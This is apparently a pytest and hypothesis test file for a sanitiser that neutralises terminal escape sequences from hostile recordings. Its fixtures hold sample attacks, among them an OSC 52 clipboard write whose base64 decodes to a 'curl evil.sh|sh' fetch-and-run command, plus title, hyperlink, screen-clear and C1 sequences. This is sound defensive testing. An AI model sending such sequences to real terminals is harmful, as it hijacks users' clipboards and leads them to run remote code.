"""The one sanitiser every outside string passes on its way to a terminal."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from engine.terminal_text import cut, json_printable, printable

# The attacks of issue 29, as a hostile recording would carry them.
OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # base64 of "curl evil.sh|sh"
OSC0_TITLE = "\x1b]0;owned\x07"
OSC8_LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
CSI_CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b2J"


def test_every_attack_is_shown_not_sent() -> None:
    for attack in (OSC52_CLIPBOARD, OSC0_TITLE, OSC8_LINK, CSI_CLEAR, C1_CSI, "a\x7fb", "\x00"):
        shown = printable(f"before {attack} after")
        assert not any(0 <= ord(c) < 32 and c not in "\n\t" for c in shown), repr(shown)
        assert not any(0x7F <= ord(c) <= 0x9F for c in shown), repr(shown)


def test_escapes_are_visible_and_exact() -> None:
    assert printable(OSC52_CLIPBOARD) == "\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07"
    assert printable(C1_CSI) == "\\x9b2J"
    assert printable("bidi \u202e reversed") == "bidi \\u202e reversed"


def test_newline_and_tab_kept_unless_one_line() -> None:
    assert printable("a\nb\tc") == "a\nb\tc"
    assert printable("a\nb\tc\r", one_line=True) == "a\\nb\\tc\\r"
    assert printable("a\r\nb") == "a\\r\nb"


def test_plain_text_is_returned_as_is() -> None:
    text = "résumé — 日本語 ✓ tab\tnewline\n"
    assert printable(text) is text


def test_cut_never_splits_an_escape() -> None:
    title = "x" * 10 + "\x1b]0;evil\x07"
    for width in range(0, 30):
        shown = cut(title, width)
        assert "\x1b" not in shown and "\x07" not in shown
        assert len(shown) <= width


@given(st.text())
def test_no_control_character_survives(text: str) -> None:
    for one_line in (False, True):
        shown = printable(text, one_line=one_line)
        allowed = set() if one_line else {"\n", "\t"}
        for char in shown:
            code = ord(char)
            assert not (code < 32 and char not in allowed)
            assert not (0x7F <= code <= 0x9F)


def test_json_printable_escapes_what_the_encoder_leaves_raw() -> None:
    import json

    data = {"t": f"{C1_CSI} del\x7f bidi\u202e {OSC52_CLIPBOARD} é"}
    encoded = json.dumps(data, ensure_ascii=False)
    assert "\x9b" in encoded  # the encoder leaves C1 raw with ensure_ascii=False
    safe = json_printable(encoded)
    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in safe)
    assert "\\u009b" in safe and "\\u007f" in safe and "\\u202e" in safe and "é" in safe
    assert json.loads(safe) == data  # the same document
